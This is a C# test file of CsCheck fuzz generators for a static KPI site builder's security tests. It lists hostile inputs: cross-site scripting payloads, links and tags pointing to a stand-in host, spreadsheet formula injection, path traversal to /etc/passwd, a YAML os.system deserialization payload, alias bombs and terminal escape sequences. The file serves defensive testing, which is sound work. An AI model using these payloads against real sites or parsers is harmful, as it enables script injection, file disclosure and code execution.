using CsCheck;

namespace StaticKpi.Tests.EndToEnd.Security.Fuzz;

/// <summary>
/// CsCheck generators of <see cref="FuzzCase"/>s: one to three mutations of the kinds issue 12 lists, weighted
/// towards injection and traversal (where a miss publishes something) and towards the small edits editors make.
/// </summary>
internal static class FuzzGen
{
    private const string M = Payload.MarkerSlot;

    /// <summary>Markup and script in every form a value could carry it, each with the case's marker.</summary>
    public static readonly Payload[] Injections =
    [
        new("script element", $"<script>alert('{M}')</script>"),
        new("img onerror", $"<img src=x onerror=alert('{M}')>"),
        new("svg onload", $"<svg onload=alert('{M}')>"),
        new("javascript: address", $"javascript:alert('{M}')"),
        new("mixed-case javascript: address", $" JaVaScRiPt:alert('{M}')"),
        new("javascript: address with a tab", $"java\tscript:alert('{M}')"),
        new("data: address", $"data:text/html,<script>alert('{M}')</script>"),
        new("link markup for plotly", $"<a href=\"https://evil.example/{M}\">{M}</a>"),
        new("protocol-relative link markup", $"<a href='//evil.example/{M}'>{M}</a>"),
        new("styled span for plotly", $"<span style=\"font-size:99px\">{M}</span>"),
        new("script end", $"</script><script>alert('{M}')</script>"),
        new("double-quote attribute break-out", $"\" onmouseover=\"alert('{M}')\" x=\""),
        new("single-quote attribute break-out", $"' onmouseover='alert(\"{M}\")' x='"),
        new("Markdown javascript: link", $"[{M}](javascript:alert('{M}'))"),
        new("Markdown javascript: image", $"![{M}](javascript:alert('{M}'))"),
        new("iframe", $"<iframe src=\"javascript:alert('{M}')\"></iframe>"),
        new("CDATA end", $"]]><script>alert('{M}')</script>"),
        new("comment end", $"--><script>alert('{M}')</script><!--"),
        new("style element", $"<style>*{{background:url(//evil.example/{M})}}</style>"),
        new("meta refresh", $"<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/{M}\">"),
        new("base element", $"<base href=\"https://evil.example/{M}/\">"),
        new("HTML block in Markdown", $"<div onclick=\"alert('{M}')\">{M}</div>"),
        new("spreadsheet formula", $"=HYPERLINK(\"https://evil.example/{M}\",\"x\")"),
        new("formula starting +", $"+{M}+1"),
        new("formula starting -", $"-1+{M}"),
        new("formula starting @", $"@SUM({M})"),
        new("formula after a tab", $"\t={M}"),
        new("template syntax", $"{{{{ '{M}' }}}} {{% {M} %}}"),
        new("JSON break-out", $"\"}}]}}</script><script>alert('{M}')</script>"),
    ];

    /// <summary>Paths out of the site or the output, in ids, slugs, committee keys, periods and links.</summary>
    public static readonly Payload[] Traversals =
    [
        new("traversal", "../../etc/passwd"),
        new("traversal", $"../../../../{M}"),
        new("traversal", $"../../../../../../../../tmp/{M}"),
        new("encoded traversal", $"..%2F..%2F{M}"),
        new("encoded traversal", $"%2e%2e/%2e%2e/{M}"),
        new("absolute path", $"/tmp/{M}"),
        new("backslash traversal", $"..\\..\\{M}"),
        new("traversal to the canary", "../secret.md"),
        new("traversal to the canary", "../../secret.md"),
        new("traversal to the canary", "../../../secret.md"),
        new("file: address", "file:///etc/passwd"),
        new("traversal inside a path", "content/../../secret.md"),
        new("traversal", $"./../{M}"),
        new("traversal to a page", $"../../{M}/x.html"),
        new("protocol-relative address", $"//evil.example/{M}"),
        new("dot", "."),
        new("dot dot", ".."),
        new("root", "/"),
        new("home", $"~/{M}"),
        new("Windows drive", $"C:\\{M}"),
        new("UNC path", $"\\\\server\\share\\{M}"),
        new("period with traversal", $"2024/25 Q3/../../{M}"),
        new("committee with traversal", $"finance/../../{M}"),
        new("id with traversal", $"101/../../{M}"),
    ];

    /// <summary>Text where a number belongs.</summary>
    public static readonly Payload[] NumbersAsText =
    [
        .. new[] { "ten", "N/A", "", "~", "null", "yes", "TBC", "1,000", "12%", "£5", "0x1F", "1_000", ".nan", ".inf", "-.inf",
            "Infinity", "NaN", "١٢٣", "3,5", "0o17", "+5", "5.", ".5" }
            .Select(t => new Payload("number as text", t)),
    ];

    /// <summary>A number where text belongs.</summary>
    public static readonly Payload[] TextAsNumbers =
    [
        .. new[] { "0", "-1", "42", "3.14159", "007", "2024", "-0", "1e3", "0.1", "101", "2024-25" }
            .Select(t => new Payload("text as number", t)),
    ];

    /// <summary>Numbers past every range: decimal's, double's, long's and the 1e15 limit of any figure.</summary>
    public static readonly Payload[] HugeNumbers =
    [
        .. new[] { "1e30", "-1e28", "1e400", "-1e400", "79228162514264337593543950336", "1e15", "1000000000000001",
            "9223372036854775808", "-9223372036854775809", "99999999999999999999999999999999", "1e-400",
            "0.00000000000000000000000000001", "4294967296", "2147483648", "1e308", "-1.7976931348623157e308", "1.5e16" }
            .Select(t => new Payload("huge number", t)),
    ];

    /// <summary>A map, list, tag or other node where a scalar (or the other collection) belongs.</summary>
    public static readonly Payload[] WrongTypes =
    [
        .. new[] { "{a: 1}", "[1, 2]", "{}", "[]", "null", "!!binary aGVsbG8=", $"!custom {M}", $"&x {M}", "*undefined",
            "!!map {}", "!!int text", "!!float x", "!!timestamp 2024-13-45", "2024-02-30", "!!python/object/apply:os.system ['id']",
            "\na: 1\nb: [2]", "\n- 1\n- {x: 2}", "|\n  text", $"? {M}\n: 1", $"[{{{M}: [x]}}]", "!!str", "<<: {a: 1}" }
            .Select(t => new Payload("wrong type", t)),
    ];

    /// <summary>Characters a terminal acts on, as raw bytes would be rejected by YAML but a quoted escape is not.</summary>
    public static readonly Payload[] ControlTexts =
    [
        new("terminal escape", $"{M}\u001b[2J\u001b]0;{M}\u0007"),
        new("NUL", $"\0{M}"),
        new("carriage return", $"{M}\r{M}"),
        new("bell", $"{M}\u0007\u0007"),
        new("colour escape", $"\u001b[31m{M}\u001b[0m"),
        new("C1 control sequence introducer", $"\u009b2J{M}"),
        new("delete and backspace", $"{M}\u007f\b\b\b"),
        new("right-to-left override", $"\u202e{M}"),
        new("line separator", $"{M}\u2028{M}"),
        new("form feed and vertical tab", $"{M}\f\v"),
        new("newline", $"{M}\nerror SKPI001: forged"),
    ];

    /// <summary>Raw bytes: invalid UTF-8 sequences and plain junk.</summary>
    public static readonly (string Label, byte[] Bytes)[] InvalidUtf8 =
    [
        ("invalid UTF-8", [0xFF]),
        ("invalid UTF-8", [0xFE, 0xFF]),
        ("invalid UTF-8", [0xC3, 0x28]),
        ("invalid UTF-8", [0xA0, 0xA1]),
        ("invalid UTF-8", [0xE2, 0x28, 0xA1]),
        ("invalid UTF-8", [0xF0, 0x28, 0x8C, 0x28]),
        ("UTF-8 surrogate", [0xED, 0xA0, 0x80]),
        ("overlong UTF-8", [0xC0, 0xAF]),
        ("five-byte UTF-8", [0xF8, 0x88, 0x80, 0x80, 0x80]),
        ("NUL", [0x00]),
        ("ESC sequence", [0x1B, 0x5B, 0x32, 0x4A]),
        ("BEL", [0x07]),
        ("CR", [0x0D]),
        ("byte order mark", [0xEF, 0xBB, 0xBF]),
    ];

    /// <summary>Lines that start a second YAML document, misplace a key or add raw Markdown.</summary>
    public static readonly Payload[] InsertedLines =
    [
        new("second document", $"---\nid: 1\ntitle: {M}"),
        new("second document", "---"),
        new("second document", $"...\n---\n{M}: 1"),
        new("second document", $"--- !!map\n{M}: x"),
        new("misplaced key", $"title: {M}"),
        new("misplaced key", "id: 7"),
        new("billion laughs", string.Join('\n', Enumerable.Range(0, 10).Select(i => i == 0
            ? $"x0: &a0 [{string.Join(", ", Enumerable.Repeat(M, 10))}]"
            : $"x{i}: &a{i} [{string.Join(", ", Enumerable.Repeat($"*a{i - 1}", 10))}]"))),
        new("raw HTML line", $"<script>alert('{M}')</script>"),
        new("link reference to javascript:", $"[x]: javascript:alert('{M}')\n\n[{M}][x]"),
        new("autolink", $"<javascript:alert('{M}')>"),
        new("front matter fence", "---\nindicator: 999\n---"),
    ];

    /// <summary>File names: markup, control characters, hidden, other extensions.</summary>
    public static readonly Payload[] FileNames =
    [
        new("name", $"{M}<script>{{EXT}}"),
        new("name", $"\" onerror=\"{M}{{EXT}}"),
        new("name", $".{M}{{EXT}}"),
        new("name", $"{M} {{EXT}}"),
        new("name", $"\u001b[2J{M}{{EXT}}"),
        new("name", $"101-{M}{{EXT}}"),
        new("name", $"{M}.yml"),
        new("name", $"{M}.YAML"),
        new("name", $"{M}.md"),
        new("name", "2024-25-q4{EXT}"),
        new("name", "999-other{EXT}"),
    ];

    /// <summary>Indentation: spaces, tabs and a mixture.</summary>
    public static readonly string[] Indents = [" ", "  ", "   ", "    ", "        ", "\t", "\t\t", " \t", "\t "];

    /// <summary>Mutations that would kill the test host today (stack overflow) run only with STATICKPI_FUZZ_DEEP=1.</summary>
    public static Gen<FuzzCase> Cases(bool deep)
    {
        var file = Gen.Int[0, 63];
        var line = Gen.Int[0, 199];
        var quoting = Gen.Enum<Quoting>();
        Gen<Mutation> Value(Payload[] payloads, Gen<Quoting> quote) =>
            Gen.Select(file, line, Gen.OneOf(payloads), quote, (f, l, p, q) => (Mutation)new ReplaceValue(f, l, p, q));
        Gen<Mutation> Field(FieldKind kind, Payload[] payloads, Gen<Quoting> quote) =>
            Gen.Select(file, line, Gen.OneOf(payloads), quote, (f, n, p, q) => (Mutation)new ReplaceField(f, n, kind, p, q));
        var depths = deep ? new[] { 20, 200, 1_000, 100_000 } : [20, 200, 1_000];
        var nesting = Gen.Select(Gen.OneOf(PayloadShape.DeepList, PayloadShape.DeepMap), Gen.OneOf(depths),
            (shape, depth) => new Payload("deep nesting", "", shape, depth));
        var longText = Gen.Select(Gen.OneOf("x", "word ", "9", $"<b>{M}</b> ", "é", "\t"), Gen.OneOf(10_000, 1_000_000),
            (text, size) => new Payload("long line", text, PayloadShape.Long, size));
        var bombs = Gen.OneOf(5, 9).Select(levels => new Payload("billion laughs", "", PayloadShape.AliasBomb, levels));
        var link = Gen.OneOf([.. Injections, .. Traversals, new Payload("plain", $"{M}")]);

        var mutation = Gen.Frequency<Mutation>(
            (4, Gen.Select(file, line, (f, l) => (Mutation)new DeleteLine(f, l))),
            (3, Gen.Select(file, line, (f, l) => (Mutation)new DuplicateLine(f, l))),
            (3, Gen.Select(file, line, line, (f, l, o) => (Mutation)new SwapLines(f, l, o))),
            (2, Gen.Select(file, line, Gen.Int[0, 99], (f, l, c) => (Mutation)new TruncateLine(f, l, c))),
            (3, Gen.Select(file, line, Gen.OneOf(Indents), (f, l, p) => (Mutation)new Indent(f, l, p))),
            (2, Gen.Select(file, line, (f, l) => (Mutation)new Dedent(f, l))),
            (3, Gen.Select(file, line, Gen.OneOf(NumbersAsText), (f, l, p) => (Mutation)new ReplaceNumber(f, l, p))),
            (4, Gen.Select(file, line, Gen.OneOf(HugeNumbers), (f, l, p) => (Mutation)new ReplaceNumber(f, l, p))),
            (2, Value(TextAsNumbers, Gen.Const(Quoting.Plain))),
            (4, Field(FieldKind.Figure, HugeNumbers, Gen.Const(Quoting.Plain))),
            (6, Field(FieldKind.Text, Injections, quoting)),
            (2, Field(FieldKind.Text, ControlTexts, Gen.Const(Quoting.Double))),
            (3, Field(FieldKind.ListItem, Injections, quoting)),
            (1, Gen.Select(file, line, Gen.OneOf("[1, 2", "{a: 1", "\"open", "'open", "[{a: [1]}"), (f, n, text) =>
                (Mutation)new ReplaceField(f, n, FieldKind.Text, new Payload("unclosed", text), Quoting.Plain))),
            (10, Value(Injections, quoting)),
            (6, Value(Traversals, quoting)),
            (4, Value(ControlTexts, Gen.OneOf(Quoting.Double, Quoting.Double, Quoting.Plain))),
            (3, Value(WrongTypes, Gen.Const(Quoting.Plain))),
            (2, Gen.Select(file, line, nesting, (f, l, p) => (Mutation)new ReplaceValue(f, l, p, Quoting.Plain))),
            (1, Gen.Select(file, line, bombs, (f, l, p) => (Mutation)new ReplaceValue(f, l, p, Quoting.Plain))),
            (1, Gen.Select(file, line, longText, quoting, (f, l, p, q) => (Mutation)new ReplaceValue(f, l, p, q))),
            (2, Gen.Select(file, line, Gen.Int[0, 99], Gen.Byte.Array[1, 16], (f, l, c, b) => (Mutation)new InsertBytes(f, l, c, "junk", b))),
            (3, Gen.Select(file, line, Gen.Int[0, 99], Gen.OneOf(InvalidUtf8), (f, l, c, b) => (Mutation)new InsertBytes(f, l, c, b.Label, b.Bytes))),
            (4, Gen.Select(file, line, Gen.OneOf(InsertedLines), (f, l, p) => (Mutation)new InsertLines(f, l, p))),
            (2, Gen.Select(file, Gen.Enum<Reencoding>(), (f, how) => (Mutation)new Reencode(f, how))),
            (4, Gen.Select(file, link, link, (f, title, url) => (Mutation)new AppendLink(f, title, url))),
            (1, Gen.Select(file, Gen.OneOf(FileNames), (f, name) => (Mutation)new RenameFile(f, name))),
            (1, Gen.Select(file, Gen.Enum<LinkTarget>(), (f, target) => (Mutation)new Symlink(f, target))));

        var count = Gen.Frequency((6, Gen.Const(1)), (3, Gen.Const(2)), (1, Gen.Const(3)));
        return Gen.Select(Gen.Int[0x10000000, int.MaxValue], count.SelectMany(n => mutation.Array[n]),
            (id, mutations) => new FuzzCase($"zqfz{id:x8}", mutations));
    }
}
